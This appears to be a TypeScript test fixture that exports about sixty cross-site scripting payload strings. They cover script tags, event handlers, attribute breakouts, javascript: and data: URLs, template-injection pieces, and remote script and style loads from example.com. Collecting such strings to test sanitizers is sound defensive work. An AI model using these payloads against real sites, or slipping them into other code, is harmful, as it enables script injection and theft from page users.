// Sixty texts that would run a script in a page that took them for markup, for a URL, for a style or for a piece of a script.
const call = 'alert(1)';

const tags = [
  `<script>${call}</script>`,
  `</script><script>${call}</script>`,
  `</title><script>${call}</script>`,
  `</textarea><script>${call}</script>`,
  `</pre><script>${call}</script>`,
  `<!--><script>${call}</script>-->`,
  `<![CDATA[<script>${call}</script>]]>`,
  `<scr<script>ipt>${call}</scr</script>ipt>`,
  `<ScRiPt>${call}</sCrIpT>`,
  `<script src="https://example.com/x.js"></script>`,
  `<script src=//example.com/x.js></script>`,
  `<script type=module>import "https://example.com/x.js"</script>`,
  `<svg><script>${call}</script></svg>`,
  `<math><mtext><script>${call}</script></mtext></math>`,
  `<template><script>${call}</script></template>`,
  `<noscript><p title="</noscript><script>${call}</script>">`,
];
const handlers = [
  `<img src=x onerror=${call}>`,
  `<img src=x onerror="${call}">`,
  `<img/src=x/onerror=${call}>`,
  `<img src=x:x onerror\n=${call}>`,
  `<image src=x onerror=${call}>`,
  `<svg onload=${call}>`,
  `<svg/onload=${call}//`,
  `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  `<svg><set onbegin=${call} attributename=x>`,
  `<body onload=${call}>`,
  `<iframe onload=${call}>`,
  `<video src=x onerror=${call}>`,
  `<video><source onerror=${call}></video>`,
  `<audio src=x onerror=${call}>`,
  `<input autofocus onfocus=${call}>`,
  `<select autofocus onfocus=${call}>`,
  `<textarea autofocus onfocus=${call}>`,
  `<details open ontoggle=${call}>`,
  `<marquee onstart=${call}>`,
  `<div onpointerover=${call}>x</div>`,
  `<x contenteditable onblur=${call} tabindex=1>`,
  `<style onload=${call}></style>`,
  `<object data=x onerror=${call}>`,
];
const attributes = [
  `" onmouseover="${call}`,
  `' onmouseover='${call}`,
  `"><img src=x onerror=${call}>`,
  `'><img src=x onerror=${call}>`,
  '` onmouseover=alert(1) `',
  `x" autofocus onfocus="${call}`,
];
const urls = [
  `javascript:${call}`,
  `JaVaScRiPt:${call}`,
  `java\tscript:${call}`,
  `data:text/html,<script>${call}</script>`,
  `<a href="javascript:${call}">x</a>`,
  `<iframe src="javascript:${call}"></iframe>`,
  `<form action="javascript:${call}"><button>x</button></form>`,
  `<object data="data:text/html,<script>${call}</script>"></object>`,
  `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  '<base href="https://example.com/">',
  '<link rel=stylesheet href="https://example.com/x.css">',
];
const pieces = [
  `\${${call}}`,
  `{{constructor.constructor('${call}')()}}`,
  `');${call};//`,
  '<style>*{background:url(https://example.com/x)}</style>',
];

export const hostileTexts: readonly string[] = [...tags, ...handlers, ...attributes, ...urls, ...pieces];
